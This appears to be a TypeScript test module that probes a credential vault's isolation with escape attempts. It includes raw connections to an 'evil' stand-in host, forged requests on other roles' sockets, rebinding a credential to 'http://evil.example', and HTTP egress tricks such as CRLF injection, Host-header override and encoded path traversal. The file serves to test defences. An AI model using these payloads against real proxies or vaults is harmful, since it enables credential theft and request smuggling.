import dgram from 'node:dgram';
import dns from 'node:dns';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import type { JsonObject } from '../../src/core/json.ts';
import { holdsKey, type Attempt, type EgressAttempt, type Gain, type World } from './world.ts';

/** Ways out, ways through the sockets of others, and ways to make the vault itself give a key away. */

const reach = (connect: () => net.Socket, say: string): Promise<Gain> =>
  new Promise((resolve, reject) => {
    const socket = connect();
    socket.on('error', reject);
    socket.on('connect', () => socket.end(say, () => resolve('traffic')));
  });

async function udp({ evil }: World): Promise<Gain> {
  const socket = dgram.createSocket('udp4');
  try {
    return await new Promise<Gain>((resolve, reject) => {
      socket.on('error', reject);
      socket.send('udp', evil.udp, evil.host, (error) => (error === null ? resolve('traffic') : reject(error)));
    });
  } finally {
    socket.close();
  }
}

async function dnsQuery({ evil }: World): Promise<Gain> {
  const resolver = new dns.promises.Resolver({ timeout: 500, tries: 1 });
  resolver.setServers([`${evil.host}:${evil.udp}`]);
  // The answer does not matter, only whether the question left: the arena knows.
  await resolver.resolve4('dns.example').catch((error: unknown) => {
    if ((error as NodeJS.ErrnoException).code !== 'ETIMEOUT') throw error;
  });
  return 'nothing';
}

function newListener(): Promise<Gain> {
  return new Promise((resolve, reject) => {
    const server = net.createServer().on('error', reject);
    // Alone in an empty network nobody can reach it.
    server.listen(0, '0.0.0.0', () => server.close(() => resolve(Object.keys(networks()).length > 0 ? 'traffic' : 'nothing')));
  });
}

const networks = (): object => JSON.parse(JSON.stringify(process.report.getReport()))['header']['networkInterfaces'] as object;

/** Sockets of `role`, by listing the folder. */
function socketOf(world: World, role: string, name: string): string {
  if (world.vault === null) throw new Error('no sockets');
  const folder = path.join(world.vault.run, role);
  const file = fs.readdirSync(folder).find((one) => one.startsWith(`${name}-`));
  if (file === undefined) throw new Error('no such socket');
  return path.join(folder, file);
}

const asRole =
  (role: string, name: string, head: JsonObject, gain: Gain = 'power') =>
  async (world: World): Promise<Gain> => {
    const file = socketOf(world, role, name);
    await world.vault?.askThrough(file, head);
    return gain;
  };

const askOwn =
  (head: JsonObject) =>
  async (world: World): Promise<Gain> => {
    if (world.vault === null) throw new Error('no sockets');
    const answer = JSON.stringify(await world.vault.ask(head));
    return holdsKey(world, answer) ? 'key' : 'power';
  };

/** What comes back is searched for the key; whether the evil host or a forbidden path was reached, the arena knows. */
const ask =
  (request: (world: World) => EgressAttempt) =>
  async (world: World): Promise<Gain> => {
    const { text } = await world.egress(request(world));
    return holdsKey(world, text) ? 'key' : 'nothing';
  };

const evilAt = ({ evil }: World): string => `${evil.host}:${evil.http}`;
const FORGED = { op: 'sign', kind: 'key', text: '{"id":"key_forged"}' };

export const NETWORK_ATTEMPTS: readonly Attempt[] = [
  { name: 'tcp', mark: 'tcp', run: ({ evil }) => reach(() => net.connect(evil.tcp, evil.host), 'tcp') },
  { name: 'udp', mark: 'udp', run: udp },
  { name: 'dns', mark: 'dns', run: dnsQuery },
  { name: 'abstract socket', mark: 'abstract', run: ({ evil }) => reach(() => net.connect(`\0${evil.abstract}`), 'abstract') },
  { name: 'a listener of its own', run: newListener },
  { name: 'control’s vault socket: list', run: asRole('control', 'vault-0', { op: 'credential.list' }) },
  {
    name: 'control’s vault socket: try',
    run: asRole('control', 'vault-0', { op: 'credential.try', id: 'canary', method: 'GET', path: '/v1/models', headers: [] }),
  },
  { name: 'control’s vault socket: sign', run: asRole('control', 'vault-0', FORGED) },
  { name: 'control’s auditor socket', run: asRole('control', 'auditor', { op: 'tail', limit: 1 }) },
  { name: 'the vault’s ledger socket', run: asRole('vault', 'ledger', { op: 'journal', shard: 0, generation: 'forged', records: [] }) },
  {
    name: 'the vault’s auditor socket',
    run: asRole('vault', 'auditor', { op: 'uses', shard: 0, generation: 'forged', sequence: 0, from: 0, to: 0, uses: [] }),
  },
  { name: 'own vault socket: list', run: askOwn({ op: 'credential.list' }) },
  { name: 'own vault socket: sign', run: askOwn(FORGED) },
  {
    name: 'own vault socket: put',
    run: askOwn({ op: 'credential.rebind', binding: { id: 'canary', origin: 'http://evil.example' }, at: 0 }),
  },
  { name: 'own vault socket: trust', run: askOwn({ op: 'trust', verifyKey: Buffer.alloc(32).toString('base64') }) },
];

export const EGRESS_ATTEMPTS: readonly Attempt[] = [
  { name: 'absolute target', mark: 'absolute', run: ask((world) => ({ path: `http://${evilAt(world)}/absolute` })) },
  { name: 'network-path target', mark: 'network-path', run: ask((world) => ({ path: `//${evilAt(world)}/network-path` })) },
  { name: 'target that joins the host', mark: 'joined', run: ask((world) => ({ path: `@${evilAt(world)}/joined` })) },
  { name: 'host header', mark: 'host-header', run: ask((world) => ({ path: '/v1/host-header', headers: [['host', evilAt(world)]] })) },
  { name: 'dotted path', mark: 'dotted', run: ask(() => ({ path: '/v1/../outside/dotted' })) },
  { name: 'encoded dots', mark: 'encoded', run: ask(() => ({ path: '/v1/%2e%2e/outside/encoded' })) },
  { name: 'path beside the bound one', mark: 'beside', run: ask(() => ({ path: '/outside/beside' })) },
  {
    name: 'CRLF in the path',
    mark: 'crlf-path',
    run: ask(() => ({ path: '/v1/models HTTP/1.1\r\nhost: x\r\n\r\nGET /outside/crlf-path', method: 'GET' })),
  },
  {
    name: 'CRLF in a header',
    mark: 'crlf-header',
    run: ask(() => ({ path: '/v1/models', method: 'GET', headers: [['x-a', 'b\r\n\r\nGET /outside/crlf-header HTTP/1.1\r\nhost: x']] })),
  },
  { name: 'CONNECT', run: ask((world) => ({ path: evilAt(world), method: 'CONNECT' })) },
  { name: 'TRACE', run: ask(() => ({ path: '/v1/trace', method: 'TRACE' })) },
  { name: 'redirect to another host', mark: 'redirected', run: ask(() => ({ path: '/v1/redirect', method: 'GET' })) },
  { name: 'echo in the body', run: ask(() => ({ path: '/v1/echo/body', method: 'GET' })) },
  { name: 'echo in pieces', run: ask(() => ({ path: '/v1/echo/pieces', method: 'GET' })) },
  { name: 'echo in base64', run: ask(() => ({ path: '/v1/echo/base64', method: 'GET' })) },
  { name: 'echo in a header', run: ask(() => ({ path: '/v1/echo/header', method: 'GET' })) },
  { name: 'echo in an error', run: ask(() => ({ path: '/v1/echo/error', method: 'GET' })) },
  {
    name: 'without proof',
    mark: 'no-proof',
    run: ask(() => ({ path: '/v1/no-proof', changes: { proof: { kind: 'service', grant: { text: '{}', signature: '' } } } })),
  },
  { name: 'with an edited row', mark: 'edited-row', run: ask(() => ({ path: '/v1/edited-row', changes: { edit: 'row' } })) },
  { name: 'with another’s key', mark: 'other-key', run: ask(() => ({ path: '/v1/other-key', changes: { edit: 'key' } })) },
  {
    name: 'credential of another tenant',
    mark: 'other-tenant',
    run: ask(() => ({ path: '/v1/other-tenant', changes: { credential: 'theirs' } })),
  },
];
